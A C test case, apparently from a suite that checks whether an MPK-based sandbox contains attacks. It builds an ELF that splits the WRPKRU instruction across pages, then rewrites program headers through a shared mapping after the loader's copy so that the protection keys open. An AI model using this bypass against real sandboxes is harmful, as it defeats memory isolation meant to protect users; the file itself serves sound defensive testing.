/* attack
class: code
aim: memory
expect: { mpk: contained }
tries: WRPKRU put together from two pages of a program by headers that were changed after its copy was made
options: ["-fno-builtin"]
*/
/* A page of the program ends with the first two bytes of WRPKRU, another, not the next, begins with the third. Its copy is made, and holds nothing
   sensitive. Then its headers put the pages beside each other: by a mapping that was written to before, so that the file shows no change. */
#include "attack.h"
#include <elf.h>

enum { PAGE = 4096, BYTES = 4 * PAGE };

/* At the begin of the second page: opens all keys, asks for the rights, puts them back, and ends with 3 if all were open. The program itself is not to
   have the instruction: it jumps to the end of its page with an address to go on from. */
extern const unsigned char opener[], opener_end[];
__asm__(".section .rodata\n" /* where nothing is rewritten */
        "opener: lea opener(%rip), %r15\n add $4094, %r15\n xor %ecx, %ecx\n rdpkru\n mov %eax, %r12d\n"
        "lea 1f(%rip), %r13\n xor %eax, %eax\n jmp *%r15\n"
        "1: rdpkru\n mov %eax, %r14d\n mov %r12d, %eax\n lea 2f(%rip), %r13\n jmp *%r15\n"
        "2: xor %edi, %edi\n test %r14d, %r14d\n jne 3f\n mov $3, %edi\n"
        "3: mov $231, %eax\n syscall\n"
        "opener_end:\n .text\n");
static const unsigned char begin[] = {0x0f, 0x01}, end[] = {0xef, 0x41, 0xff, 0xe5}; /* …; jmp *%r13 */

static Elf64_Phdr segment(unsigned flags, uint64_t offset, uint64_t vaddr, uint64_t bytes) {
    return (Elf64_Phdr){.p_type = PT_LOAD, .p_flags = PF_R | flags, .p_offset = offset, .p_vaddr = vaddr, .p_paddr = vaddr, .p_filesz = bytes, .p_memsz = bytes, .p_align = PAGE};
}

int main(void) {
    struct target t[64];
    read_targets(t, 64);
    if (!has_keys()) not_here("the kernel has not switched protection keys on");
    static unsigned char file[BYTES];
    Elf64_Ehdr header = {.e_ident = {0x7f, 'E', 'L', 'F', ELFCLASS64, ELFDATA2LSB, EV_CURRENT}, .e_type = ET_DYN, .e_machine = EM_X86_64, .e_version = EV_CURRENT,
                         .e_entry = PAGE, .e_phoff = sizeof header, .e_ehsize = sizeof header, .e_phentsize = sizeof(Elf64_Phdr), .e_phnum = 4};
    Elf64_Phdr first[4] = {segment(0, 0, 0, 0x200), segment(PF_X, PAGE, PAGE, 3 * PAGE)};
    Elf64_Phdr then[4] = {segment(0, 0, 0, 0x200), segment(PF_X, PAGE, PAGE, PAGE), segment(PF_X, 3 * PAGE, 2 * PAGE, PAGE), segment(0, 0, 3 * PAGE, PAGE)};
    memset(file, 0x90, sizeof file);
    memcpy(file, &header, sizeof header);
    memcpy(file + sizeof header, first, sizeof first);
    memcpy(file + PAGE, opener, (size_t)(opener_end - opener));
    memcpy(file + 2 * PAGE - sizeof begin, begin, sizeof begin);
    memcpy(file + 3 * PAGE, end, sizeof end);
    int fd = open("program", O_RDWR | O_CREAT | O_TRUNC, 0755);
    if (write(fd, file, sizeof file) != sizeof file) not_here("a program could not be written");
    unsigned char *shared = mmap(NULL, BYTES, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    *(volatile unsigned char *)shared = 0x7f;
    /* As a library it is mapped by its copy, which is made for that. */
    munmap(mmap(NULL, BYTES, PROT_READ, MAP_PRIVATE | MAP_DENYWRITE, fd, 0), BYTES);
    memcpy(shared + sizeof header, then, sizeof then);
    munmap(shared, BYTES);
    close(fd);
    pid_t child = fork();
    if (child == 0) {
        execl("program", "program", NULL);
        _exit(1);
    }
    int status = 0;
    waitpid(child, &status, 0);
    if (WIFSIGNALED(status)) last_fault = WTERMSIG(status);
    errno = 0;
    verdict(WIFEXITED(status) && WEXITSTATUS(status) == 3);
}
